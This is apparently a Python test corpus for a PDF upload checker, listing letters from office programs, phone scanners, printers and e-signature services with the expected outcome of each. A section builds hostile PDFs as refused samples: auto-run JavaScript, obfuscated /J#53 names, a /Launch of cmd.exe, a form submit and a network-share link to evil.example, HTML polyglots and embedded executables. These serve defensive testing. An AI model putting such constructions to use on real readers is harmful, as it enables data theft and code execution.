"""Letters as programs, phones, scanners and signers write them, and as those who mean harm do.

Each row is made anew in the manner of its maker; docs/letters.md says the same rows with what
becomes of each, and test_corpus.py holds both to what really happens.
"""

from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import pdfs
from tests.visits.files.making import (
    PACKED,
    PLAIN,
    Make,
    archive,
    before,
    behind,
    but,
    by,
    called,
    cut,
    described,
    fields,
    link,
    no_pages,
    of_page,
    outline,
    scan,
    tagged,
    updated,
    web,
    with_entry,
    without,
    word_tables,
)
from tests.visits.files.signed import signed

AS_IT_CAME, TIDY = "taken as it came", "taken, made tidy"
MORE, PASSWORD, BROKEN = "refused: more than pages", "refused: password", "refused: broken"


class Row(NamedTuple):
    """A file: who made it, what is special about it, and what becomes of it."""

    maker: str
    what: str
    outcome: str
    make: Make


JS = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
TOP = Array([0, Name.Fit])
LIBRE, WORD = "LibreOffice 24.2", "Microsoft® Word for Microsoft 365"
GDOCS, QUARTZ, HP = "Skia/PDF m126", "iOS Version 17.5 Quartz PDFContext", "HP LaserJet MFP M428fdw"
PJL = b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n"
BOUNDARY = b"\r\n--=_NextPart_000_0012--\r\n"
GET_KOMINFO = "https://tte.kominfo.go.id/verifyPDF"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "WordDocument".encode("utf-16-le")
LOCKED = pikepdf.Encryption(owner="a", user="b", R=6)
OWNER_ONLY = pikepdf.Encryption(owner="rahasia", user="", R=6)
OLD_OWNER_ONLY = pikepdf.Encryption(owner="rahasia", user="", R=3, aes=False, metadata=False)

OFFICES = [
    Row("LibreOffice", "letter that opens at its first page", AS_IT_CAME,
        by(LIBRE, pdfs.root(OpenAction=Array([0, Name.XYZ, None, None, 0])))),
    Row("LibreOffice", "tagged (PDF/UA)", AS_IT_CAME, by(LIBRE, tagged)),
    Row("LibreOffice", "archive (PDF/A-2b)", AS_IT_CAME, by(LIBRE, described)),
    Row("LibreOffice", "form to fill in, without scripts", AS_IT_CAME, by(LIBRE, fields)),
    Row("LibreOffice", "hybrid PDF: the ODT is within", MORE, by(LIBRE, pdfs.attached)),
    Row("LibreOffice", "password to open", PASSWORD, by(LIBRE, encryption=LOCKED)),
    Row("LibreOffice", "password against changes only", AS_IT_CAME,
        by(LIBRE, encryption=OWNER_ONLY)),
    Row("Word", "two tables, one of them packed", AS_IT_CAME, but(by(WORD), word_tables)),
    Row("Word", "links to the web and to an e-mail address", AS_IT_CAME,
        by(WORD, tagged, web("mailto:dpmptsp@solokkab.go.id"))),
    Row("Word", "link to a file of its own disk", MORE,
        by(WORD, web("file:///C:/Users/Dinas/lampiran.docx"))),
    Row("Word", "title that speaks of /JavaScript", AS_IT_CAME,
        by(WORD, called("Bimtek /JavaScript dan /Launch"))),
    Row("Excel", "printed, three pages", AS_IT_CAME,
        by("Microsoft® Excel® 2019", pdfs.root(PageLabels=Dictionary(Nums=[0, Dictionary()])),
           pages=3)),
    Row("Excel", "Microsoft Print to PDF", AS_IT_CAME, by("Microsoft: Print To PDF", **PACKED)),
    Row("WPS Office", "letter", AS_IT_CAME, by("WPS Writer", **PACKED)),
    Row("Google Docs", "letter", AS_IT_CAME, by(GDOCS)),
    Row("Google Docs", "bookmarks and links", AS_IT_CAME,
        by(GDOCS, outline(Dictionary(S=Name.GoTo, D=TOP)), web("https://batam.go.id/"))),
    Row("Chrome", "page saved as PDF, tagged", AS_IT_CAME, by(GDOCS, tagged, **PACKED)),
    Row("Canva", "letterhead with a phone link", AS_IT_CAME,
        by("Canva", web("tel:+62778123456"), **PACKED)),
    Row("iLovePDF", "merged, in order of reading (linearised)", AS_IT_CAME,
        by("iLovePDF", pages=4, linearize=True)),
    Row("Acrobat", "PDF 2.0", AS_IT_CAME, by("Acrobat", min_version="2.0", **PACKED)),
    Row("Acrobat", "protected in the old way (RC4)", AS_IT_CAME,
        by("Acrobat", encryption=OLD_OWNER_ONLY)),
    Row("Acrobat", "changed three times", AS_IT_CAME,
        but(but(but(by("Acrobat"), updated(bytes)), updated(bytes)), updated(bytes))),
]  # fmt: skip
SCANS = [
    Row("iPhone", "Notes, one page", AS_IT_CAME, scan(QUARTZ)),
    Row("iPhone", "Files, three pages", AS_IT_CAME, scan(QUARTZ, pages=3)),
    Row("Android", "Google Drive", AS_IT_CAME, scan("Google Drive Scanner")),
    Row("CamScanner", "two pages", AS_IT_CAME, scan("intsig.com pdf producer", pages=2)),
    Row("Adobe Scan", "packed, with its words recognised", AS_IT_CAME,
        by("Adobe Scan for Android", described, **PACKED)),
    Row("Microsoft Lens", "one page", AS_IT_CAME, scan("Microsoft Office Lens")),
    Row("HP", "orders to a printer before the head", TIDY, but(scan(HP), before(PJL))),
    Row("HP", "line end before the head", TIDY, but(scan(HP), before(b"\r\n"))),
    Row("HP", "byte order mark before the head", TIDY, but(scan(HP), before(b"\xef\xbb\xbf"))),
    Row("Epson", "line end behind the end", AS_IT_CAME, but(scan("EPSON Scan"), behind(b"\r\n"))),
    Row("Epson", "/JS, /AA and /XFA among the bytes of the picture", AS_IT_CAME,
        scan("EPSON Scan 2", hidden=b" /JS (x) /AA /XFA /Launch #4aS /J#53 " * 9)),
    Row("Canon", "filled up with zeros behind the end", AS_IT_CAME,
        but(scan("Canon iR-ADV"), behind(bytes(512)))),
    Row("Canon", "end mark missing", TIDY, but(scan("Canon MF"), without(rb"%%EOF\s*$"))),
    Row("Canon", "packed, its last lines missing", TIDY,
        but(by("Canon", **PACKED), without(rb"startxref\s+\d+\s+%%EOF\s*$"))),
    Row("Fuji Xerox", "table said to be elsewhere", TIDY,
        but(scan("Xerox"), without(rb"startxref\n\d+", b"startxref\n7"))),
    Row("Brother", "end of a mail behind the end", TIDY, but(scan("Brother"), behind(BOUNDARY))),
    Row("Brother", "a kilobyte and more behind the end", TIDY,
        but(scan("Brother 2"), behind(b"\0padding" * 400))),
    Row("Ricoh", "length of the picture wrong", TIDY,
        but(scan("RICOH MP"), without(rb"/Length 60000", b"/Length 59000"))),
    Row("Kyocera", "lines that end as on old machines, /JS among the bytes", TIDY,
        but(scan("KYOCERA", hidden=b" /JS /XFA "), without(rb"stream\n(?!endobj)", b"stream\r"))),
    Row("Sharp", "numbers of objects miscounted", TIDY,
        but(scan("Sharp"), without(rb"/Size \d+", b"/Size 900"))),
    Row("e-mail", "broke off half way", BROKEN, but(scan("HP 2"), cut(0.5))),
    Row("WhatsApp", "broke off in its table", TIDY,
        but(scan("HP 3"), without(rb"\d{10} 00000 n \ntrailer(.|\n)*"))),
    Row("WhatsApp", "linearised, broke off", BROKEN, but(by("HP 4", linearize=True), cut(0.6))),
    Row("WhatsApp", "broke off behind a whole page", BROKEN,
        but(scan("HP 5", pages=3), cut(0.9))),
    Row("scanner", "no page", BROKEN, by("HP 6", no_pages)),
    Row("scanner", "nothing", "refused: empty", bytes),
    Row("scanner", "a head and nothing more", BROKEN, lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"),
]  # fmt: skip
SIGNERS = [
    Row("BSrE", "signed (PAdES) by an update", AS_IT_CAME, lambda: signed(by(LIBRE)())),
    Row("BSrE", "signed by two officials", AS_IT_CAME, lambda: signed(signed(by(WORD)()))),
    Row("BSrE", "signed, with a link for checking", AS_IT_CAME,
        lambda: signed(by(LIBRE, web(GET_KOMINFO))())),
    Row("BSrE", "signed, packed", AS_IT_CAME, lambda: signed(by(LIBRE, **PACKED)())),
    Row("PrivyID", "signed, certified against changes (DocMDP)", AS_IT_CAME,
        lambda: signed(by(LIBRE)(), certified=True)),
    Row("Srikandi", "signed, then proofs for long (DSS)", AS_IT_CAME,
        but(lambda: signed(by(LIBRE)()), updated(with_entry(b"/DSS <</VRI <<>>>>")))),
    Row("BSrE", "signed, line end before the head", AS_IT_CAME,
        but(lambda: signed(by(LIBRE)()), before(b"\r\n"))),
    Row("BSrE", "signed, end of a mail behind the end", AS_IT_CAME,
        but(lambda: signed(by(LIBRE)()), behind(BOUNDARY))),
    Row("BSrE", "signed, broke off in the signature", BROKEN,
        but(lambda: signed(by(LIBRE)()), cut(0.6))),
    Row("e-office", "field for a signature to come", AS_IT_CAME, by(LIBRE, pdfs.signature_field)),
    Row("stranger", "signed, then a script by an update", MORE,
        but(lambda: signed(by(LIBRE)()),
            updated(with_entry(b"/OpenAction <</S /JavaScript /JS (1)>>")))),
]  # fmt: skip
STRANGERS = [
    Row("stranger", "script on opening", MORE, by("x", pdfs.root(OpenAction=JS))),
    Row("stranger", "script in an object stream", MORE,
        by("x", pdfs.root(OpenAction=JS), **PACKED)),
    Row("stranger", "script written /J#53", MORE,
        but(by("x", pdfs.root(OpenAction=JS)), without(rb"/J(ava)?S", rb"/J\1#53"))),
    Row("stranger", "script in a tree of names", MORE,
        by("x", pdfs.root(Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), JS]))))),
    Row("stranger", "script on turning to a page", MORE,
        by("x", of_page(AA=Dictionary(O=JS)), **PACKED)),
    Row("stranger", "script on closing", MORE, by("x", pdfs.root(AA=Dictionary(WC=JS)))),
    Row("stranger", "script of a field", MORE,
        by("x", pdfs.annotation("/Widget", FT=Name.Tx, T=String("a"), AA=Dictionary(K=JS)))),
    Row("stranger", "script of a bookmark", MORE, by("x", outline(JS), **PACKED)),
    Row("stranger", "script behind a turn of the page", MORE,
        by("x", link("GoTo", D=TOP, Next=Array([JS])))),
    Row("stranger", "script under a film (Rendition)", MORE,
        by("x", link("Rendition", JS=String("1")))),
    Row("stranger", "script in a state before the last", MORE,
        but(but(by("x", **PLAIN), updated(with_entry(b"/OpenAction <</S /Launch /F (a)>>"))),
            updated(lambda top: top.partition(b"/OpenAction")[0] + b">>"))),
    Row("stranger", "form of its own (XFA)", MORE,
        by("x", pdfs.root(AcroForm=Dictionary(Fields=[], XFA=String("<template/>"))), **PACKED)),
    Row("stranger", "starts a program", MORE, by("x", link("Launch", F=String("cmd.exe")))),
    Row("stranger", "file within", MORE, by("x", pdfs.attached, **PACKED)),
    Row("stranger", "portfolio", MORE,
        by("x", pdfs.attached, pdfs.root(Collection=Dictionary(View=Name.T)))),
    Row("stranger", "file on a pin", MORE, by("x", pdfs.annotation("/FileAttachment"))),
    Row("stranger", "player (RichMedia)", MORE, by("x", pdfs.annotation("/RichMedia"), **PACKED)),
    Row("stranger", "leads to a file within (GoToE)", MORE, by("x", link("GoToE", D=TOP))),
    Row("stranger", "leads to another file (GoToR)", MORE,
        by("x", link("GoToR", F=String("b.pdf"), D=TOP), **PACKED)),
    Row("stranger", "sends the form (SubmitForm)", MORE,
        by("x", link("SubmitForm", F=String("https://evil.example/")))),
    Row("stranger", "reads a form in (ImportData)", MORE,
        by("x", link("ImportData", F=String("a.fdf")))),
    Row("stranger", "share of a network", MORE, by("x", web("\\\\evil.example\\a"))),
    Row("stranger", "page of the web behind the end", MORE,
        but(by("x"), behind(b"<html><script>alert(1)</script></html>"))),
    Row("stranger", "page of the web before the head", MORE,
        but(by("x"), before(b"<html><body onload=alert(1)>\n"))),
    Row("stranger", "program before the head", MORE, but(by("x"), before(b"MZ\x90\0" + bytes(60)))),
    Row("stranger", "archive behind the end", MORE, but(by("x"), behind(archive("a.exe")))),
    Row("stranger", "script that no table names", MORE,
        but(by("x"), without(rb"\nxref", b"\n99 0 obj\n<</S /Launch /F (a)>>\nendobj\nxref"))),
    Row("stranger", "password to open, and a script", MORE,
        by("x", pdfs.root(OpenAction=JS), encryption=LOCKED)),
    Row("anybody", "DOCX named .pdf", "refused: word processor",
        lambda: archive("[Content_Types].xml", "word/document.xml")),
    Row("anybody", "DOC named .pdf", "refused: word processor", lambda: OLE),
    Row("anybody", "XLSX named .pdf", "refused: spreadsheet",
        lambda: archive("[Content_Types].xml", "xl/workbook.xml")),
    Row("anybody", "ZIP", "refused: packed folder", lambda: archive("surat.pdf")),
    Row("anybody", "RAR", "refused: packed folder", lambda: b"Rar!\x1a\x07\x01\0" + bytes(99)),
    Row("anybody", "web page named .pdf", "refused: web page",
        lambda: b"\xef\xbb\xbf<!DOCTYPE html>\n<html><head><title>Drive</title></head></html>"),
]  # fmt: skip
CORPUS = [*OFFICES, *SCANS, *SIGNERS, *STRANGERS]
